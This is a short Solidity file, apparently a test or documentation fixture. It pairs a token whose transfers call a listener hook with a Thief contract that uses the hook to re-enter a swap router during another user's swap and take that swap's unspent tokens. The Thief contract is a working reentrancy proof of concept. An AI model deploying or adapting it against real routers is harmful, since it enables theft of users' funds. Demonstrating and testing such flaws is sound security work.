// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

interface IRouter {
    function EXECUTOR() external view returns (address);
    function swap(address exchange, ERC20 token, uint256 amount, ERC20 bought, bytes calldata data) external;
}

interface IListener {
    function onTransfer(address from) external;
}

// #region second
/// An honest exchange whose shares are a token, so users may give allowances for them.
contract Pair is ERC20 {
    constructor(address holder) ERC20("Pair share", "PAIR") {
        _mint(holder, 1000);
    }

    /// Pays one share for each token. A real exchange accepts only tokens that it knows.
    function sell(ERC20 token, uint256 amount, address to) external {
        token.transferFrom(msg.sender, address(this), amount);
        _mint(to, amount);
    }
}

/// A token that calls a listener after each transfer.
contract Hooked is ERC20 {
    IListener private listener;

    constructor(address holder) ERC20("Hooked", "HOOK") {
        _mint(holder, 1000);
    }

    function listen(IListener by) external {
        listener = by;
    }

    function _update(address from, address to, uint256 value) internal override {
        super._update(from, to, value);
        if (address(listener) != address(0)) listener.onTransfer(from);
    }
}

/// Enters the router during somebody else's swap, to get the tokens that the swap has not spent.
contract Thief {
    IRouter private immutable ROUTER;
    Pair private immutable PAIR;
    bool private isInside;

    constructor(IRouter router, Pair pair) {
        (ROUTER, PAIR) = (router, pair);
    }

    function onTransfer(address from) external {
        if (isInside || from != ROUTER.EXECUTOR()) return;
        isInside = true;
        ERC20 token = ERC20(msg.sender);
        try ROUTER.swap(address(PAIR), token, 0, PAIR, abi.encodeCall(Pair.sell, (token, 0, address(this)))) {} catch {}
    }
}
// #endregion second
